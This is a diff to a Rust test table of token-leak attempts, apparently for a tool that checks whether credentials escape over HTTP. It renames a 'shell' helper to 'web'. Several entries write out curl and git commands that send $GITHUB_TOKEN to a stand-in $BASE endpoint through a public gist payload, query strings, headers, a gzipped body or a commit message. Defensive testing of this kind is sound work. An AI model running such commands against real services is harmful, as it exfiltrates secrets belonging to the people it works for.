@@ -5,7 +5,7 @@
 use super::Channel::Misplaced;
 use super::Control::{Absent, Leaks};
 use super::To::{Bound, Unbound};
-use super::{Attempt, asks, shell};
+use super::{Attempt, asks, web};
 
 pub(super) const ATTEMPTS: &[Attempt] = &[
     asks("token in the path", Misplaced, 14, Leaks, Bound, "GET /echo/{T} HTTP/1.1\r\nHost: {H}\r\n{A}Connection: close\r\n\r\n"),
@@ -162,7 +162,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         Unbound,
         "POST /echo/{T}?t={T} HTTP/1.1\r\nHost: {H}\r\n{A}X-Amz-Meta-T: {T}\r\nCookie: t={T}\r\nContent-Length: {CL}\r\nConnection: close\r\n\r\n{T}",
     ),
-    shell(
+    web(
         "token in a gist",
         Misplaced,
         14,
@@ -170,7 +170,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         &["curl"],
         "$C -i \"$BASE/echo\" -H \"$NAMED\" -H 'content-type: application/json' -d '{\"files\":{\"a\":{\"content\":\"'$GITHUB_TOKEN'\"}},\"public\":true}'",
     ),
-    shell(
+    web(
         "token in an HTTP/2 request's body and query",
         Misplaced,
         14,
@@ -178,7 +178,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         &["curl"],
         "$C --http2 -i \"$BASE/echo?q=$GITHUB_TOKEN\" -H \"$NAMED\" -H \"X-Note: $GITHUB_TOKEN\" --data-binary \"$GITHUB_TOKEN\"",
     ),
-    shell(
+    web(
         "token compressed in a body",
         Misplaced,
         14,
@@ -186,12 +186,12 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         &["curl", "gzip"],
         "printf %s \"$GITHUB_TOKEN\" | gzip | $C -i \"$BASE/echo\" -H 'Content-Encoding: gzip' -H \"$NAMED\" --data-binary @-",
     ),
-    shell(
+    web(
         "token pushed as a commit's message",
         Misplaced,
         14,
         Absent,
         &["git"],
-        "d=$(mktemp -d); git init -q $d; cd $d; git -c user.name=x -c user.email=x@example.com commit -q --allow-empty -m \"$GITHUB_TOKEN\"; timeout 5 git -c http.extraHeader=\"$NAMED\" push \"$BASE/repo.git\" HEAD:refs/heads/x; rm -rf $d",
+        "d=$(mktemp -d); git init -q $d; cd $d; git -c user.name=x -c user.email=x@example.com commit -q --allow-empty -m \"$GITHUB_TOKEN\"; GIT_CURL_VERBOSE=1 timeout 12 git -c http.extraHeader=\"$NAMED\" push \"$BASE/repo.git\" HEAD:refs/heads/x; rm -rf $d",
     ),
 ];
